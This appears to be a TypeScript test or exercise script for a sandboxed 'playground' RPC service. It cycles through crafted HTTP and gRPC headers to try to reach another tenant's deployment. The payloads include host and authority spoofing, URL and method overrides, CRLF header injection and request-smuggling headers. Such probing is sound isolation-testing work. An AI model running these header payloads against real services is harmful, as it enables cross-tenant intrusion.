import { createClient } from "@connectrpc/connect";
import { transport } from "playground";
import { Target } from "./gen/target_pb";

import { victim } from "./victim";

/** Every header that names a deployment, or might. */
export async function attack() {
  const client = createClient(Target, transport);
  const tries: Record<string, string>[] = [
    { "x-deployment": victim },
    { "X-Deployment": victim },
    { host: `${victim}.localhost` },
    { ":authority": `${victim}.localhost` },
    { ":path": `/d/${victim}/attack.v1.Target/Attack` },
    { "x-forwarded-host": `${victim}.localhost` },
    { "x-http-method-override": "DELETE" },
    { "x-forwarded-for": "198.51.0.1" },
    { "x-original-url": `/d/${victim}/attack.v1.Target/Attack` },
    { "x-playground-attempt": "run-of-somebody/0/0" },
    { "x-playground-dial": "1" },
    { "x-fine": `a\r\nx-deployment: ${victim}` },
    { "x-fine": `a\nx-deployment\n${victim}` },
    { [`x-a\nx-deployment\n${victim}\nx-b`]: "c" },
    { "transfer-encoding": "chunked" },
    { "content-length": "1" },
    { connection: "close, x-deployment" },
    { "content-type": "text/html" },
    { te: "evil" },
    { "grpc-timeout": "999999999999999H" },
  ];
  const found: string[] = [];
  for (const headers of tries) {
    const call = async () => (await client.attack({ text: "victim?" }, { headers, timeoutMs: 2_000 })).text;
    const text = await call().catch(() => "own victim?");
    if (text !== "own victim?") found.push(`${Object.keys(headers)}: ${text}`);
  }
  console.log(`found: ${found.join()}`);
}
